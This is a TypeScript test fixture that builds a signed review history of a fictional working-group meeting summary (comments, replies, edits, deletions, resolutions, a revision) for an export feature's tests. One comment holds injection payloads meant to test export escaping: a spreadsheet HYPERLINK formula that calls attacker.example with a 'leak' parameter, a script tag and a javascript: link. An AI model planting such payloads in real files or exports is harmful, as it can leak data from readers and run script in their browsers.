/**
 * A review of the sample meeting summary (samples/mag-wg-mwp-2018-08-15.html) taken to a
 * resolution, and a later revision of the draft: the export tests' fixture, also used by the
 * export benchmark and checks. Fixed keys and times, so every run folds to the same state.
 *
 * What it holds: a chair and four members (fictional names); a review period with late comments
 * allowed; threads in five sections with replies, an edit, a deleted reply, a withdrawn thread,
 * a late comment, every disposition, a resolve–reopen–resolve history, comment types and proposed
 * changes (the commenting template's fields), and a comment written to break exports (Markdown, HTML and spreadsheet formulas). The revision rewords one passage,
 * deletes one and moves one to another section.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Window } from 'happy-dom';
import { describeOffsets, extractText, type Anchor, type PageText } from '../../lib/anchoring';
import type { DraftRevision, ExportInput } from '../../lib/export';
import { outlineOf } from '../../lib/export/outline';
import type { Identity } from '../../lib/identity';
import { textFingerprint } from '../../lib/page/document-identity';
import { eventIdOf, signEvent, type Envelope, type EventBody } from '../../lib/review';
import { foldEnvelopes } from '../unit/helpers';
import { fixedIdentity } from './fixed-keys';

export const SAMPLE = join(import.meta.dirname, '..', '..', 'samples', 'mag-wg-mwp-2018-08-15.html');
export const DRAFT_URL = 'http://127.0.0.1:8000/mag-wg-mwp-2018-08-15.html';

export function pageOf(html: string): PageText {
  const window = new Window({ url: DRAFT_URL });
  window.document.write(html);
  // happy-dom's DOM types are its own; the extraction reads only the standard Node API.
  return extractText(window.document.body as unknown as Node);
}

export { outlineOf };

/** The sample after a revision round: one passage reworded, one deleted, one moved to section 4. */
export function revisedHtml(html: string): string {
  const moved = '<p>It was further suggested that a poll of the IGF community could be helpful and the drafting team would evaluate this possibility.</p>';
  const out = html
    .replace('to determine the appropriate platform in order to share the work more broadly with the Community', 'to determine the appropriate platform in order to share the work more widely with the Community')
    .replace(' Missions Publiques is interested in working with the IGF on the two pilots discussed above.', '')
    .replace(`${moved}\n`, '')
    .replace('<p>Future meetings:</p>', `${moved}\n<p>Future meetings:</p>`);
  if (out === html) throw new Error('the sample draft changed: update revisedHtml');
  return out;
}

interface Person {
  identity: Identity;
  clock: { t: number; c: number } | undefined;
  head: string | null;
}

const T0 = Date.parse('2018-08-16T09:00:00Z');
const HOUR = 3_600_000;

export interface ExportFixture {
  input: ExportInput;
  envelopes: Envelope[];
  names: Record<'chair' | 'jonas' | 'mei' | 'rafael' | 'sofia', string>;
  page: PageText;
  revision: DraftRevision;
}

export async function meetingSummaryFixture(): Promise<ExportFixture> {
  const html = readFileSync(SAMPLE, 'utf8');
  const page = pageOf(html);
  const fingerprint = await textFingerprint(page.text);
  const revisedPage = pageOf(revisedHtml(html));
  const revision: DraftRevision = { text: revisedPage.text, outline: outlineOf(revisedPage), fingerprint: await textFingerprint(revisedPage.text) };

  const people: Person[] = [];
  for (let i = 0; i < 5; i++) people.push({ identity: await fixedIdentity(i), clock: undefined, head: null });
  const [chair, jonas, mei, rafael, sofia] = people;
  const review = `${chair.identity.keyId}.mag-wg-mwp-fixture`;
  const envelopes: Envelope[] = [];
  const ev = async (who: Person, body: EventBody, hours: number): Promise<string> => {
    const env = await signEvent(who.identity, review, body, who.clock, T0 + hours * HOUR, who.head);
    who.clock = JSON.parse(env.p).hlc;
    who.head = eventIdOf(env.p);
    envelopes.push(env);
    return who.head;
  };
  const anchor = (exact: string, nth = 0): Anchor => {
    let at = -1;
    for (let i = 0; i <= nth; i++) at = page.text.indexOf(exact, at + 1);
    if (at < 0) throw new Error(`not in the sample: ${exact}`);
    return { ...describeOffsets(page, at, at + exact.length), fingerprint };
  };
  const comment = (who: Person, exact: string, body: string, hours: number, fields: { category?: 'general' | 'technical' | 'editorial'; proposal?: string } = {}) =>
    ev(who, { type: 'comment.add', anchor: anchor(exact), body, ...fields }, hours);
  const reply = (who: Person, thread: string, body: string, hours: number) => ev(who, { type: 'comment.add', thread, body }, hours);
  const resolve = (thread: string, disposition: Extract<EventBody, { type: 'thread.resolve' }>['disposition'], note: string, hours: number) =>
    ev(chair, { type: 'thread.resolve', thread, disposition, note }, hours);

  await ev(chair, { type: 'review.create', title: 'MAG WG-MWP meeting summary 2018-08-15', url: DRAFT_URL, canonical: DRAFT_URL, fingerprint }, 0);
  await ev(chair, { type: 'profile.set', name: 'Okafor, Amara' }, 0.01);
  await ev(chair, { type: 'role.grant', subject: jonas.identity.publicKey, role: 'member', name: 'Lindqvist, Jonas' }, 0.02);
  await ev(chair, { type: 'role.grant', subject: mei.identity.publicKey, role: 'member', name: 'Tanaka, Mei' }, 0.03);
  await ev(chair, { type: 'role.grant', subject: rafael.identity.publicKey, role: 'member', name: 'Ortiz, Rafael' }, 0.04);
  await ev(chair, { type: 'role.grant', subject: sofia.identity.publicKey, role: 'member', name: 'Petrov, Sofia' }, 0.05);
  await ev(chair, { type: 'period.set', opens: '2018-08-16T09:00:00Z', closes: '2018-08-23T16:00:00Z', reason: 'One week, as agreed on the call.', late: true }, 0.06);

  const recording = await comment(jonas, 'participants agreed to the meeting being recorded', 'Please link the recording itself, not the meetings page, so that those who missed the call can find it.', 1);
  await reply(chair, recording, 'Agreed: the Secretariat will add the direct link.', 5);
  const platform = await comment(mei, 'to determine the appropriate platform in order to share the work more broadly with the Community', 'Which platform? The summary should name the options discussed (the IGF website, a wiki, the mailing list).', 2, {
    category: 'technical',
    proposal: 'to choose between the IGF website, a wiki and the mailing list, in order to share the work more broadly with the Community',
  });
  await reply(rafael, platform, 'Agree with Mei. The mailing list reaches the most people.\nThe wiki keeps a history.', 3);
  await comment(rafael, 'we need to produce Executive Summaries', 'Who drafts these, and by when? Without a date this will slip again.', 4);
  const missions = await comment(sofia, 'Missions Publiques is interested in working with the IGF on the two pilots discussed above', 'This overstates it: they said they might be interested.', 6, { category: 'editorial', proposal: '-1 Missions Publiques may be interested' });
  await ev(sofia, { type: 'comment.edit', comment: missions, body: 'This overstates it: they said they might be interested, once the pilots are defined.' }, 7);
  const poll = await comment(jonas, 'a poll of the IGF community could be helpful', 'A poll of whom, exactly? The MAG, or the wider community?', 8);
  const meiReply = await reply(mei, poll, 'The wider community, I believe.', 9);
  await ev(mei, { type: 'comment.delete', comment: meiReply }, 10);
  const drafting = await comment(rafael, 'small drafting group', 'Same point as on the poll: who is in the drafting group?', 11);
  const withdrawn = await comment(sofia, 'The group discussed a proposal', 'Typo?', 12);
  await ev(sofia, { type: 'comment.delete', comment: withdrawn }, 12.5);
  const hostile = await comment(
    sofia,
    'The importance of getting more concrete proposals out ASAP',
    '=HYPERLINK("http://attacker.example/?leak","click") <script>alert(1)</script> **not bold** [link](javascript:alert(1))\n# not a heading\n1. not a list, "quoted", with, commas',
    13,
  );
  const future = await comment(jonas, 'Future meetings', 'Can we fix the next three dates now?', 14);

  await resolve(recording, 'accepted', 'The direct link to the recording is added.', 24);
  await resolve(platform, 'accepted', 'Named the options.', 25);
  await ev(chair, { type: 'thread.reopen', thread: platform, note: 'Rafael’s point on the wiki is not reflected yet.' }, 26);
  await resolve(platform, 'accepted-with-changes', 'The summary now names the IGF website, the wiki and the mailing list; the choice is for the next call.', 27);
  await resolve(missions, 'noted', 'Noted: the wording will be checked with Missions Publiques.', 28);
  await resolve(drafting, 'duplicate', 'Answered in the thread on the poll.', 29);
  await resolve(hostile, 'not-accepted', 'The sentence records what was said on the call.', 30);
  await resolve(future, 'deferred', 'To the next call: see agenda item 4.', 31);
  // After the period closed (2018-08-23 16:00 UTC, one week in): a late comment, allowed.
  await comment(mei, 'A doodle poll will be sent to extend the meeting calendar', 'Please send the doodle poll to the whole list, not only the WG.', 24 * 7 + 10);

  const state = await foldEnvelopes(review, envelopes, { now: T0 + 365 * 24 * HOUR });
  if (state.rejected.length) throw new Error(`fixture events rejected: ${state.rejected.map((r) => r.reason).join(', ')}`);
  return {
    input: { state, group: 'MAG Working Group on the Multi-year Strategic Work Programme', outline: outlineOf(page), latest: revision, exportedAt: Date.parse('2018-08-31T12:00:00Z') },
    envelopes,
    names: { chair: 'Okafor, Amara', jonas: 'Lindqvist, Jonas', mei: 'Tanaka, Mei', rafael: 'Ortiz, Rafael', sofia: 'Petrov, Sofia' },
    page,
    revision,
  };
}
